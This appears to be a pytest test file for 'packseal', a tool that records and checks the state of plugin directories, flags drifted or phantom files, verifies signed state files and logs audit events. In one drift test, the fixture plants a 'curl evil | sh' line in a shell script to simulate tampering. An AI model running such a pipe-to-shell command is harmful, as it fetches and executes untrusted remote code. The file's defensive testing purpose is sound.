"""`packseal watch record` / `watch check`: exit codes, the report, signed states, and one audit event per change."""

from __future__ import annotations

import json
import os
from pathlib import Path

import json_output
import pytest

from .conftest import KeyPair, build_pack, describe, packseal, sign_ok


@pytest.fixture
def home(tmp_path: Path) -> dict[str, str]:
    """Where the audit log goes: never the real HOME."""
    return {"PACKSEAL_HOME": str(tmp_path / "packseal-home")}


@pytest.fixture
def plugins(tmp_path: Path, keys: KeyPair) -> Path:
    root = tmp_path / "plugins"
    for name in ("acme-pack", "beta-pack"):
        sign_ok(build_pack(root / name), keys)
    (root / "agents.toml").write_text("[agent]\nname = 'a'\n")
    return root


def audit_events(home: dict[str, str]) -> list[dict]:
    log = Path(home["PACKSEAL_HOME"]) / "audit.jsonl"
    return [json.loads(line) for line in log.read_bytes().splitlines()] if log.exists() else []


def record(plugins: Path, state: Path, *extra: object, **kwargs) -> None:
    result = packseal("watch", "record", plugins, "--out", state, *extra, **kwargs)
    assert result.returncode == 0, describe(result)


def test_unchanged_directory_exits_0_and_logs_nothing(plugins: Path, tmp_path: Path, home) -> None:
    state = tmp_path / "state.json"
    record(plugins, state)
    result = packseal("watch", "check", plugins, "--state", state, "--allow-unsigned", env=home)
    assert result.returncode == 0, describe(result)
    assert "UNCHANGED: 3 of 3 items unchanged" in result.stdout
    assert "UNSIGNED" in result.stdout
    assert audit_events(home) == []


def test_drift_phantom_and_removal_exit_1_with_one_audit_event_each(plugins: Path, tmp_path: Path, home) -> None:
    state = tmp_path / "state.json"
    record(plugins, state)
    (plugins / "acme-pack/bin/run.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    build_pack(plugins / "phantom-pack")
    (plugins / "phantom-pack/.packseal").mkdir()
    (plugins / "agents.toml").unlink()
    result = packseal("watch", "check", plugins, "--state", state, "--allow-unsigned", "--json", env=home)
    assert result.returncode == 1, describe(result)
    report = json_output.parse(result.stdout)
    changes = {item["path"]: item["status"] for item in report["items"] if item["status"] != "unchanged"}
    assert changes == {"acme-pack": "drifted", "phantom-pack": "phantom", "agents.toml": "removed"}
    assert [item["changed"] for item in report["items"] if item["path"] == "acme-pack"] == [["acme-pack/bin/run.sh"]]
    events = {event["bundle"]: event["action"] for event in audit_events(home)}
    assert events == {"acme-pack": "drift", "phantom-pack": "phantom", "agents.toml": "removed"}


def test_a_phantom_whose_name_is_not_utf8_is_reported_and_logged(plugins: Path, tmp_path: Path, home) -> None:
    state = tmp_path / "state.json"
    record(plugins, state)
    (plugins / os.fsdecode(b"evil-\xff.toml")).write_text("evil = true\n")
    result = packseal("watch", "check", plugins, "--state", state, "--allow-unsigned", "--json", env=home)
    assert result.returncode == 1, describe(result)
    report = json_output.parse(result.stdout)
    assert [item["status"] for item in report["items"] if item["path"] == "evil-\udcff.toml"] == ["phantom"]
    assert [(event["action"], event["bundle"]) for event in audit_events(home)] == [("phantom", "evil-\\udcff.toml")]


def test_a_drift_of_thousands_of_files_is_reported_whole_and_logged_in_one_bounded_event(
    plugins: Path, tmp_path: Path, home
) -> None:
    state = tmp_path / "state.json"
    record(plugins, state)
    names = [f"acme-pack/{'x' * 200}-{number}.py" for number in range(6000)]
    for name in names:
        (plugins / name).write_bytes(b"")
    result = packseal("watch", "check", plugins, "--state", state, "--allow-unsigned", "--json", env=home)
    assert result.returncode == 1, describe(result)
    [drifted] = [item for item in json_output.parse(result.stdout)["items"] if item["status"] == "drifted"]
    assert drifted["extra"] == sorted(names)
    [event] = audit_events(home)
    assert event["action"] == "drift" and event["detail"]["extra_count"] == 6000
    assert 0 < len(event["detail"]["extra"]) < 6000


def test_text_report_names_each_change(plugins: Path, tmp_path: Path, home) -> None:
    state = tmp_path / "state.json"
    record(plugins, state)
    (plugins / "beta-pack/extra.py").write_text("import os\n")
    result = packseal("watch", "check", plugins, "--state", state, "--allow-unsigned", env=home)
    assert result.returncode == 1, describe(result)
    assert "drifted  bundle beta-pack: extra beta-pack/extra.py" in result.stdout


def test_a_signed_state_checks_with_its_key_and_refuses_an_edit(
    plugins: Path, tmp_path: Path, keys: KeyPair, other_keys: KeyPair, home
) -> None:
    state = tmp_path / "state.json"
    record(plugins, state, "--minisign-key", keys.key)
    assert (tmp_path / "state.json.minisig").is_file()
    ok = packseal("watch", "check", plugins, "--state", state, "--minisign-pubkey", keys.pub, env=home)
    assert ok.returncode == 0, describe(ok)
    assert "state signed by" in ok.stdout
    wrong_key = packseal("watch", "check", plugins, "--state", state, "--minisign-pubkey", other_keys.pub, env=home)
    assert wrong_key.returncode == 1 and "not trusted" in wrong_key.stderr, describe(wrong_key)
    # An attacker who adds a phantom and records it into the state cannot re-sign the state.
    state.write_bytes(state.read_bytes().replace(b'"agents.toml"', b'"agentz.toml"'))
    edited = packseal("watch", "check", plugins, "--state", state, "--minisign-pubkey", keys.pub, env=home)
    assert edited.returncode == 1 and "does not verify" in edited.stderr, describe(edited)
    assert len(edited.stderr.strip().splitlines()) == 1


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ((), "--minisign-pubkey"),
        (("--allow-unsigned", "--minisign-pubkey", "PUB"), "not both"),
    ],
    ids=["neither", "both"],
)
def test_check_must_say_how_the_state_is_trusted(plugins, tmp_path, keys, home, options, message) -> None:
    state = tmp_path / "state.json"
    record(plugins, state)
    options = tuple(str(keys.pub) if option == "PUB" else option for option in options)
    result = packseal("watch", "check", plugins, "--state", state, *options, env=home)
    assert result.returncode == 2 and message in result.stderr, describe(result)


def test_a_signed_state_is_never_trusted_as_unsigned(plugins: Path, tmp_path: Path, keys: KeyPair, home) -> None:
    state = tmp_path / "state.json"
    record(plugins, state, "--minisign-key", keys.key)
    result = packseal("watch", "check", plugins, "--state", state, "--allow-unsigned", env=home)
    assert result.returncode == 2 and "is signed" in result.stderr, describe(result)


def test_patterns_choose_the_watched_files(plugins: Path, tmp_path: Path, home) -> None:
    state = tmp_path / "state.json"
    (plugins / "policy.rego").write_text("package x\n")
    record(plugins, state, "--pattern", "*.rego")
    (plugins / "agents.toml").write_text("changed, but not watched\n")
    (plugins / "policy.rego").write_text("package evil\n")
    result = packseal("watch", "check", plugins, "--state", state, "--allow-unsigned", "--json", env=home)
    report = json_output.parse(result.stdout)
    assert {item["path"]: item["status"] for item in report["items"]} == {
        "acme-pack": "unchanged",
        "beta-pack": "unchanged",
        "policy.rego": "drifted",
    }


def test_record_without_a_key_refuses_to_leave_an_old_signature_beside(plugins, tmp_path, keys) -> None:
    state = tmp_path / "state.json"
    record(plugins, state, "--minisign-key", keys.key)
    before = state.read_bytes()
    result = packseal("watch", "record", plugins, "--out", state)
    assert result.returncode == 2 and "state.json.minisig" in result.stderr, describe(result)
    assert state.read_bytes() == before
